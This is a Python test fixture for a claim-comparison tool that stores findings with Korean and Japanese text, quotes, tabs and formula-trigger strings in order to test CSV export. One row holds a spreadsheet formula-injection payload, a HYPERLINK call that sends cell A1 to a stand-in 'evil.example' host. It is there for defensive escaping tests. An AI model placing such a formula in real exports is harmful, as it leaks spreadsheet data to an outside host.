"""Stored findings whose texts exercise the CSV: ko/ja, quotes, newlines, formula triggers."""

from __future__ import annotations

from dataclasses import replace

from claimdiff.records import Article, Finding, Statement, stable_id, text_hash
from claimdiff.store import Store

# (original text, report text, report lang, report outlet): each becomes one finding.
FINDING_TEXTS: list[tuple[str, str, str, str]] = [
    (
        "Helion will deploy more than 250,000 GPUs across Korea.",
        '헬리온이 GPU 25만 장을 공급하기로 "합의"했다.',
        "ko",
        "한빛일보",
    ),
    (
        "The first systems are expected in the second half of 2027.",
        "最初のシステムは2027年下半期に稼働する。\n同社が明らかにした。",
        "ja",
        "東都新聞",
    ),
    (
        "Revenue rose 12%, the company said.",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "en",
        "Wire, Inc.",
    ),
    (
        "@SUM(1+1) is not a statement.",
        '-3% drop, said the "CFO", with a comma, here',
        "en",
        "Daily",
    ),
    (
        "+82 is the country code.",
        '\tTabbed text and a quote " inside',
        "en",
        "Tab Times",
    ),
]


def make_article(url: str, outlet: str, role: str, lang: str, text: str) -> Article:
    article_id = stable_id("article", url)
    return Article(
        article_id=article_id,
        url=url,
        canonical_url=url,
        outlet=outlet,
        role=role,  # type: ignore[arg-type]
        lang=lang,  # type: ignore[arg-type]
        text=text,
        text_hash=text_hash(text),
    )


def make_statement(article: Article, text: str) -> Statement:
    return Statement(
        statement_id=Statement.make_id(article.article_id, 0, len(text), text),
        article_id=article.article_id,
        index=0,
        start=0,
        end=len(text),
        text=text,
        lang=article.lang,
        role=article.role,
        text_en=text if article.lang == "en" else None,
    )


def populate(store: Store, run_id: str = "run-1") -> list[Finding]:
    """Store one original/report article pair and one finding per row of FINDING_TEXTS."""
    findings = []
    for i, (original_text, report_text, lang, outlet) in enumerate(FINDING_TEXTS):
        original = make_article(
            f"https://press.example/{i}", "Helion Newsroom", "original", "en", original_text
        )
        report = make_article(
            f"https://news.example/{i}?id={i}", outlet, "report", lang, report_text
        )
        store.add_articles([original, report], run_id)
        o_stmt, r_stmt = (
            make_statement(original, original_text),
            make_statement(report, report_text),
        )
        store.add_statements([o_stmt, r_stmt])
        findings.append(
            Finding(
                finding_id=Finding.make_id(o_stmt.statement_id, r_stmt.statement_id, "", ""),
                pair_id=stable_id("pair", o_stmt.statement_id, r_stmt.statement_id),
                story_id=f"story{i}",
                severity=("high", "medium", "low")[i % 3],  # type: ignore[arg-type]
                kind="quantity_mismatch",
                label="checks-only",
                reasons=(f"reason {i}: 250,000 vs 25만", "second | reason"),
                original_id=o_stmt.statement_id,
                report_id=r_stmt.statement_id,
                content_hash=text_hash(original_text + "\x00" + report_text),
            )
        )
    store.upsert_findings(findings, run_id)
    return findings


def finding_on(store: Store, report: Statement) -> Finding:
    """A stored finding like the first one, whose report statement is ``report``."""
    first = store.findings()[0].finding
    finding = replace(first, finding_id="f" + report.statement_id, report_id=report.statement_id)
    store.upsert_findings([finding], "run-1")
    return finding
